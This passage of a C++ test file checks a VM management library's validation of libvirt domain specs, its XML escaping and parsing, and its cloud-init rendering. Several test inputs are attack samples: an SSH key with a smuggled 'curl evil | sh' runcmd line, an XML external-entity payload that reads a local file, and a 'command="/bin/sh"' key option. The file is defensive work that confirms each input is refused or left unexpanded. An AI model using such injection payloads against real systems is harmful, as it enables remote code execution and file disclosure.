      {"disk path with a newline", [](DomainSpec& s) { s.disks[0].path = "/var/a\nb.img"; }},
      {"disk target not virtio", [](DomainSpec& s) { s.disks[0].target = "sda"; }},
      {"disk target without a letter", [](DomainSpec& s) { s.disks[0].target = "vd"; }},
      {"disk target with a digit", [](DomainSpec& s) { s.disks[0].target = "vd1"; }},
      {"disk target twice",
       [](DomainSpec& s) { s.disks.push_back({.path = "/var/b.img", .target = "vda"}); }},
      {"share without a tag", [](DomainSpec& s) { s.shares = {{.source = "/srv/a", .tag = ""}}; }},
      {"share tag with a slash",
       [](DomainSpec& s) { s.shares = {{.source = "/srv/a", .tag = "a/b"}}; }},
      {"share from a relative path",
       [](DomainSpec& s) { s.shares = {{.source = "srv/a", .tag = "a"}}; }},
      {"share tag twice",
       [](DomainSpec& s) {
         s.shares = {{.source = "/srv/a", .tag = "a"}, {.source = "/srv/b", .tag = "a"}};
       }},
      {"relative seed ISO", [](DomainSpec& s) { s.seed_iso = "seed.iso"; }},
      {"relative console log", [](DomainSpec& s) { s.console_log = "console.log"; }},
      {"unknown firmware", [](DomainSpec& s) { s.firmware = "coreboot"; }},
      {"unknown security model", [](DomainSpec& s) { s.security_model = "none"; }},
      {"tenant with a control character", [](DomainSpec& s) { s.tenant = "ac\x01me"; }},
      {"tenant that is not UTF-8",
       [](DomainSpec& s) {
         s.tenant =
             "ac\xff"
             "me";
       }},
  };
  ASSERT_TRUE(render_domain_xml(passthrough_spec()));
  for (const Case& c : cases) {
    DomainSpec spec = passthrough_spec();
    c.spoil(spec);
    auto xml = render_domain_xml(spec);
    ASSERT_FALSE(xml) << c.what << " was rendered:\n" << *xml;
    EXPECT_EQ(xml.error().code, ErrorCode::kInvalidArgument) << c.what;
    EXPECT_FALSE(xml.error().message.empty()) << c.what;
  }
}

TEST(RenderDomainXml, EscapesEveryValueAndStillValidates) {
  DomainSpec spec = vgpu_spec();
  spec.tenant = "Smith & Sons <R&D> 'o\"q' — Zürich";
  spec.project = "a&b";
  spec.allocation = "<id>";
  spec.disks[1].path = "/var/lib/gpuplane/images/it's <&> \"base\".img";
  spec.shares[0].source = "/srv/vol/a&b";
  auto xml = render_domain_xml(spec);
  ASSERT_TRUE(xml) << xml.error().message;
  EXPECT_NE(xml->find("tenant='Smith &amp; Sons &lt;R&amp;D&gt; &#39;o&quot;q&#39; — Zürich' "
                      "project='a&amp;b' id='&lt;id&gt;'"),
            std::string::npos)
      << *xml;
  EXPECT_NE(xml->find("images/it&#39;s &lt;&amp;&gt; &quot;base&quot;.img"), std::string::npos)
      << *xml;
  EXPECT_NE(xml->find("<source dir='/srv/vol/a&amp;b'/>"), std::string::npos) << *xml;
  EXPECT_VALID_DOMAIN(*xml);
  EXPECT_TRUE(domain_devices(*xml));
}

// ---- domain_devices ----

TEST(DomainDevices, RoundTripsWhatRenderDomainXmlRendered) {
  DomainSpec spec = vgpu_spec();
  spec.hostdevs = {"00000000:41:00.0", "0000:c1:1f.7"};
  auto xml = render_domain_xml(spec);
  ASSERT_TRUE(xml) << xml.error().message;
  auto devices = domain_devices(*xml);
  ASSERT_TRUE(devices) << devices.error().message;
  EXPECT_EQ(devices->pci, (std::vector<std::string>{"0000:41:00.0", "0000:c1:1f.7"}));
  EXPECT_EQ(devices->mdevs, (std::vector<std::string>{"9b2f4d6e-8a1c-4e3b-b5d7-f9a1c3e5b7d9",
                                                      "1c3e5a7b-9d2f-4b6a-8e1c-3a5b7d9f1e2c"}));

  auto none = render_domain_xml(
      DomainSpec{.name = "gp-empty", .uuid = "6f1c2a9e-3b7d-4c58-9a0e-2d4f6b8c1e3a"});
  ASSERT_TRUE(none) << none.error().message;
  auto empty = domain_devices(*none);
  ASSERT_TRUE(empty) << empty.error().message;
  EXPECT_TRUE(empty->pci.empty());
  EXPECT_TRUE(empty->mdevs.empty());
}

TEST(DomainDevices, ReadsTheSourceAddressesOfXmlAsLibvirtWritesIt) {
  // virDomainGetXMLDesc adds a driver, an alias and the guest-side <address>, which is not the
  // host device; USB host devices and other devices are ignored.
  const std::string xml = R"(<domain type='kvm' id='3'>
  <name>gp-alloc-7</name>
  <devices>
    <emulator>/usr/bin/qemu-system-x86_64</emulator>
    <hostdev mode='subsystem' type='pci' managed='yes'>
      <driver name='vfio'/>
      <source>
        <address domain='0x0000' bus='0xC1' slot='0x00' function='0x0'/>
      </source>
      <alias name='hostdev0'/>
      <address type='pci' domain='0x0000' bus='0x06' slot='0x00' function='0x0'/>
    </hostdev>
    <hostdev mode='subsystem' type='usb' managed='yes'>
      <source><vendor id='0x1234'/><product id='0xbeef'/></source>
    </hostdev>
    <hostdev mode='subsystem' type='mdev' managed='no' model='vfio-pci' display='off'>
      <source>
        <address uuid='9b2f4d6e-8a1c-4e3b-b5d7-f9a1c3e5b7d9'/>
      </source>
      <alias name='hostdev1'/>
    </hostdev>
  </devices>
</domain>)";
  auto devices = domain_devices(xml);
  ASSERT_TRUE(devices) << devices.error().message;
  EXPECT_EQ(devices->pci, (std::vector<std::string>{"0000:c1:00.0"}));
  EXPECT_EQ(devices->mdevs, (std::vector<std::string>{"9b2f4d6e-8a1c-4e3b-b5d7-f9a1c3e5b7d9"}));
}

TEST(DomainDevices, DoesNotLoadExternalEntities) {
  // Domain XML comes back from libvirt, but a parser that loaded entities would let whoever
  // wrote it make gpuplane read host files (or count devices a file lists).
  TempDir dir;
  std::ofstream(dir.file("devices.xml"))
      << "<hostdev mode='subsystem' type='pci'><source><address domain='0x0000' bus='0x41' "
         "slot='0x00' function='0x0'/></source></hostdev>";
  const std::string xml = fmt::format(
      "<!DOCTYPE domain [<!ENTITY devices SYSTEM 'file://{}'>]>\n"
      "<domain type='kvm'><name>a</name><devices>&devices;</devices></domain>",
      dir.file("devices.xml"));
  auto devices = domain_devices(xml);
  ASSERT_TRUE(devices) << devices.error().message;  // the reference is left unexpanded
  EXPECT_TRUE(devices->pci.empty());
}

TEST(DomainDevices, RefusesMalformedXml) {
  for (std::string_view xml : {
           "",
           "<domain><devices>",
           "not xml at all",
           "<domain><name>a</domain>",
           "<network><name>default</name></network>",
           "<domain><devices><hostdev type='pci'/></devices></domain>",
           "<domain><devices><hostdev type='pci'><source><address domain='0x0000' bus='0xzz' "
           "slot='0x00' function='0x0'/></source></hostdev></devices></domain>",
           "<domain><devices><hostdev type='pci'><source><address domain='0x0000' bus='0x41' "
           "slot='0x20' function='0x0'/></source></hostdev></devices></domain>",
           "<domain><devices><hostdev type='mdev'><source><address uuid='x'/></source></hostdev>"
           "</devices></domain>",
       }) {
    auto devices = domain_devices(xml);
    ASSERT_FALSE(devices) << "accepted: " << xml;
    EXPECT_EQ(devices.error().code, ErrorCode::kInvalidArgument) << xml;
    EXPECT_TRUE(devices.error().message.starts_with("domain XML")) << devices.error().message;
  }
}

// ---- render_cloud_init ----

constexpr std::string_view kEd25519Key =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJahq9m/SVi5rruomUJEvCDaDd/GeQvajznMuDaaMTS alice@laptop";
constexpr std::string_view kEcdsaKey =
    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBAzxSCxAHGDXY7PlKD033+"
    "QdtiiPoMYTATKdDEGVMz5fwlRjL3LyrpDWcHA9R02zB7TuGjzpfkqnF0tjcnI+Lrk=";
constexpr std::string_view kRsaKey =
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDPT7x1VzCr38bYbm1C8o8tawSHodYakINyaTv7SK70YVkv759/"
    "ydF3+03nOPoYnQcGZiMahWcvnfplQfrmjLjGliIbE6IWSYU3RflLPPwLG6pgYQ+adeN007qJLB06CbBKe/"
    "rcc3BuiUO/J4de1UIn4LW0wqEtDFev+G9EjWluPw== bob \"the builder\" \\o/";

TEST(RenderCloudInit, WritesTheInstanceHostnameAndKeysForTheDefaultUser) {
  auto ci =
      render_cloud_init("gp-alloc-8", "alloc-8",
                        {std::string(kEd25519Key), std::string(kEcdsaKey), std::string(kRsaKey)});
  ASSERT_TRUE(ci) << ci.error().message;
  EXPECT_EQ(ci->meta_data, "instance-id: \"gp-alloc-8\"\nlocal-hostname: \"alloc-8\"\n");
  EXPECT_EQ(
      ci->user_data,
      "#cloud-config\n"
      "ssh_pwauth: false\n"
      "disable_root: true\n"
      "users:\n"
      "  - default\n"
      "ssh_authorized_keys:\n"
      "  - \"" +
          std::string(kEd25519Key) +
          "\"\n"
          "  - \"" +
          std::string(kEcdsaKey) +
          "\"\n"
          "  - \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDPT7x1VzCr38bYbm1C8o8tawSHodYakINyaTv7SK70"
          "YVkv759/ydF3+03nOPoYnQcGZiMahWcvnfplQfrmjLjGliIbE6IWSYU3RflLPPwLG6pgYQ+adeN007qJLB06"
          "CbBKe/rcc3BuiUO/J4de1UIn4LW0wqEtDFev+G9EjWluPw== bob \\\"the builder\\\" \\\\o/\"\n");

  auto keyless = render_cloud_init("gp-alloc-9", "alloc-9", {});
  ASSERT_TRUE(keyless) << keyless.error().message;
  EXPECT_TRUE(keyless->user_data.ends_with("ssh_authorized_keys: []\n")) << keyless->user_data;
}

TEST(RenderCloudInit, RefusesAKeyWithANewline) {
  // A second line would be a second YAML entry, or whatever else it says.
  const std::string smuggled = std::string(kEd25519Key) + "\nruncmd: [\"curl evil | sh\"]";
  auto ci = render_cloud_init("gp-alloc-8", "alloc-8", {smuggled});
  ASSERT_FALSE(ci);
  EXPECT_EQ(ci.error().code, ErrorCode::kInvalidArgument);
  EXPECT_NE(ci.error().message.find("SSH key 1"), std::string::npos) << ci.error().message;
  EXPECT_FALSE(render_cloud_init("gp-alloc-8", "alloc-8", {std::string(kEd25519Key) + "\n"}));
}

TEST(RenderCloudInit, RefusesWhatIsNotAnOpenSshPublicKey) {
  const std::string ed25519_blob =
      "AAAAC3NzaC1lZDI1NTE5AAAAIHJahq9m/SVi5rruomUJEvCDaDd/GeQvajznMuDaaMTS";
  for (const std::string& key : std::vector<std::string>{
           "hello world",
           "ssh-ed25519",
           "ssh-dss " + ed25519_blob,
           "ssh-ed25519 not!base64",
           "ssh-ed25519 AAAA",
           "ssh-rsa " + ed25519_blob,  // the blob says ed25519
           "command=\"/bin/sh\" ssh-ed25519 " + ed25519_blob,
           "-----BEGIN OPENSSH PRIVATE KEY-----",
           "ssh-ed25519 " + ed25519_blob + " tab\tcomment",
       }) {
    auto ci = render_cloud_init("gp-alloc-8", "alloc-8", {std::string(kEd25519Key), key});
    ASSERT_FALSE(ci) << "accepted: " << key;
    EXPECT_EQ(ci.error().code, ErrorCode::kInvalidArgument);
    EXPECT_NE(ci.error().message.find("SSH key 2"), std::string::npos) << ci.error().message;
  }
}

TEST(RenderCloudInit, RefusesAHostnameThatIsNotADnsLabelAndABadInstanceId) {
  for (std::string_view hostname : {"", "-a", "a-", "a.b", "a_b", "a b", "host\nname", "h\"x"}) {
    EXPECT_FALSE(render_cloud_init("gp-alloc-8", hostname, {})) << hostname;
  }
  EXPECT_FALSE(render_cloud_init("gp-alloc-8", std::string(64, 'a'), {}));
  EXPECT_TRUE(render_cloud_init("gp-alloc-8", std::string(63, 'a'), {}));
  for (std::string_view id : {"", "a b", "id\n", "a\"b"}) {
    EXPECT_FALSE(render_cloud_init(id, "host", {})) << id;
  }
}

}  // namespace
}  // namespace gp::vm
